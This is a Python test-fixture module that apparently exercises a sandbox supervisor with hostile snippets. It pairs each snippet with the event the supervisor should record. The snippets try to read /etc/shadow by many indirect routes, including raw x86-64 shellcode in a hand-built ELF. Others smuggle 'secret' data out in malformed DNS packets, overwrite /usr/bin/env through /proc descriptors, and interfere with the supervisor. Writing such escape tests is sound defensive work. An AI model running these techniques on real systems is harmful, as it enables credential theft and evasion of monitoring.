# ruff: noqa: E501 - programs keep their lines
"""Programs that seek what the supervisor does not look at: a process it may not read, bytes for a name server
that are no query, a handler of the machine's, a report that cannot be made, and known files by odd ways.
"""

from __future__ import annotations

from textwrap import dedent

from .model import Attempt, Hostile, hostile

_SHADOW = ("file", "/etc/shadow")
_TRIES = "try: open('/etc/shadow')\nexcept OSError: pass\n"
_ELF = r"""
    import os, struct
    def elf(code):
        size = 120 + len(code)
        head = b"\x7fELF\2\1\1" + bytes(9)
        head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
        return head + struct.pack("<IIQQQQQQ", 1, 7, 0, 0x400000, 0x400000, size, size, 4096) + code
    OPENS = b"\xb8\2\0\0\0\x48\x8d\x3d\x0d\0\0\0\x31\xf6\x0f\5\x31\xff\xb8\x3c\0\0\0\x0f\5/etc/shadow\0"
    def run(mode):
        with open("program", "wb") as file: file.write(elf(OPENS))
        os.chmod("program", mode)
        return os.spawnv(os.P_WAIT, "./program", ["program"])
"""
"""A program of x86-64 that opens the file and ends."""
_NAMES = r"""
    import socket, struct
    def name(*labels): return b"".join(bytes([len(one)]) + one for one in labels) + b"\0"
    def head(questions=1, answers=0, flags=0x100): return struct.pack("!6H", 7, flags, questions, answers, 0, 0)
    KIND, SERVER = struct.pack("!2H", 1, 1), ("127.0.0.1", 53)
    def send(payload):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.2)
            try: s.connect(SERVER); s.send(payload); s.recv(512)
            except OSError: pass
"""


def _elf(name: str, body: str, on_record: Attempt) -> Hostile:
    return hostile(name, dedent(_ELF) + dedent(body), on_record)


def _to_a_name_server(name: str, payload: str, named: str) -> Hostile:
    return hostile(name, dedent(_NAMES) + f"send({payload})\n", ("network", f"{named}:53"))


_NAME_SERVER = [
    _to_a_name_server("a second question", "head(2) + name(b'a') + KIND + name(b'secret') + KIND", "a"),
    _to_a_name_server(
        "a name of no characters", "head() + name(b'\\xffsecret', b'evil') + KIND", "\\xffsecret.evil"
    ),
    _to_a_name_server(
        "a question with an answer", "head(1, 1) + name(b'secret', b'evil') + KIND", "secret.evil"
    ),
    _to_a_name_server("a name that goes on elsewhere", "head() + b'\\6secret\\xc0\\x18' + KIND", "secret"),
    _to_a_name_server("a notice", "head(flags=0x2000) + name(b'secret', b'evil') + KIND", "secret.evil"),
    _to_a_name_server(
        "an answer without a question", "head(flags=0x8180) + name(b'secret', b'evil') + KIND", "secret.evil"
    ),
    _to_a_name_server("bytes that are no question", "b'secret'", "(no name)"),
    hostile(
        "a message to a name server",
        dedent(_NAMES) + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try: s.sendmsg([head() + name(b'secret', b'evil') + KIND], [], 0, SERVER)\nexcept OSError: pass\n"
        "import time; time.sleep(0.1)",
        ("network", "secret.evil:53"),
    ),
]
_REPORTS = [
    hostile(
        "an exception whose cause cannot be had",
        _TRIES + "class Bad(Exception): __cause__ = property(lambda self: 1 / 0)\nraise Bad",
        _SHADOW,
        "exception permission_denied",
    ),
    hostile(
        "exceptions of a group that cannot be had",
        _TRIES
        + "class Bad(BaseExceptionGroup): exceptions = property(lambda self: 1 / 0)\nraise Bad('', [KeyError()])",
        _SHADOW,
        "exception permission_denied",
    ),
    hostile(
        "a class that ends the program when it is named",
        _TRIES + "class Kind(type): __name__ = __module__ = property(lambda self: exit(0))\n"
        "class Bad(Exception, metaclass=Kind): pass\nraise Bad",
        _SHADOW,
        "exception permission_denied",
    ),
    hostile(
        "an error in a directory that is gone",
        _TRIES + "import os\nos.mkdir('d'); os.chdir('d'); os.rmdir('../d'); open('x')",
        _SHADOW,
        "exception permission_denied",
    ),
]
_BY_ODD_WAYS = [
    hostile(
        "a file that is read only, opened again to write",
        "import os\nfd = os.open('/usr/bin/env', os.O_RDONLY); os.open(f'/proc/self/fd/{fd}', os.O_RDWR); print('BREACH')",
        ("file", "/usr/bin/env"),
        "permission_denied exception",
    ),
    hostile(
        "the same by the thread's own directory, to cut it",
        "import os\nfd = os.open('/usr/bin/env', 0); os.open(f'/proc/thread-self/fd/{fd}', os.O_TRUNC | os.O_WRONLY); print('BREACH')",
        ("file", "/usr/bin/env"),
        "permission_denied exception",
    ),
    hostile(
        "exchanging a file with one outside",
        "import ctypes\nopen('x', 'w'); print(ctypes.CDLL(None).renameat2(-100, b'x', -100, b'/usr/bin/env', 2) or 'BREACH')",
        ("file", "/usr/bin/env"),
    ),
    hostile(
        "shadow by a copy of a program",
        "import shutil, subprocess\nshutil.copy('/bin/cat', 'innocent'); subprocess.run(['./innocent', '/etc/shadow'])",
        _SHADOW,
    ),
    hostile(
        "shadow by a spawned program",
        "import os\nos.posix_spawn('/bin/cat', ['cat', '/etc/shadow'], {}); os.wait()",
        _SHADOW,
    ),
    hostile(
        "shadow by the root of a child",
        """
        import os, time
        pid = os.fork()
        if pid == 0: time.sleep(2); os._exit(0)
        open(f'/proc/{pid}/task/{pid}/root/etc/shadow'); print('BREACH')
        """,
        _SHADOW,
    ),
    hostile(
        "shadow step by step",
        "import os\nos.chdir('/usr'); os.chdir('..'); os.chdir('etc'); open('shadow')",
        _SHADOW,
    ),
    hostile(
        "shadow up from the threads",
        "import os\nos.chdir('/proc/self/task'); open('../../../etc/shadow')",
        _SHADOW,
    ),
    hostile(
        "shadow from the root's descriptor",
        "import os\nos.open('etc/shadow', 0, dir_fd=os.open('/', os.O_PATH))",
        _SHADOW,
    ),
    hostile(
        "shadow past the cache",
        "import os\nos.open('/etc/shadow', os.O_RDONLY | os.O_DIRECT | os.O_NONBLOCK)",
        _SHADOW,
    ),
    hostile("shadow as a library", "import ctypes\nctypes.CDLL('/etc/shadow')", _SHADOW),
    hostile(
        "shadow as a database",
        "import sqlite3\nsqlite3.connect('file:/etc/shadow?mode=ro', uri=True).execute('select 1 from sqlite_master')",
        _SHADOW,
    ),
    hostile(
        "modules from /etc",
        "import sys\nsys.path.insert(0, '/etc')\ntry: import shadow\nexcept ImportError: pass",
        ("file", "/etc"),
    ),
    hostile(
        "shadow by a redirection of lines", "mapfile -t lines < /etc/shadow; true", _SHADOW, language="bash"
    ),
    hostile(
        "shadow by a pattern",
        "shopt -s nullglob; for f in /etc/shad[o]w /etc/sh*; do :; done; . /etc/shadow; true",
        _SHADOW,
        language="bash",
    ),
    hostile(
        "shadow by a copy, from node",
        "try { require('fs').copyFileSync('/etc/shadow', 'x'); } catch {}",
        _SHADOW,
        language="javascript",
    ),
    hostile(
        "shadow as an addon of node",
        "try { process.dlopen({ exports: {} }, '/etc/shadow'); } catch {}",
        _SHADOW,
        language="javascript",
    ),
]
_UNSEEN = [
    _elf("a program that may be run and not be read", "run(0o111)", _SHADOW),
    _elf("one that is closed once it is known", "run(0o755); run(0o711); run(0o111)", _SHADOW),
    hostile(
        "a core for the machine's handler",
        """
        import os, resource
        held = resource.getrlimit(resource.RLIMIT_CORE)
        for limits in ((0, 0), (1 << 30, 1 << 30), (2, 2)):
            try: resource.setrlimit(resource.RLIMIT_CORE, limits)
            except (OSError, ValueError): pass
            try: resource.prlimit(0, resource.RLIMIT_CORE, limits)
            except (OSError, ValueError): pass
        if resource.getrlimit(resource.RLIMIT_CORE) != held: print('BREACH', resource.getrlimit(resource.RLIMIT_CORE))
        os.abort()
        """,
        None,
        "killed",
    ),
    hostile(
        "slowing the supervisor's group down",
        "import os\nos.setpriority(os.PRIO_PGRP, 0, 19); print('BREACH')",
        ("privilege", "setpriority"),
        "unsafe_operation",
    ),
]

SNIPPETS = (*_NAME_SERVER, *_REPORTS, *_BY_ODD_WAYS, *_UNSEEN)
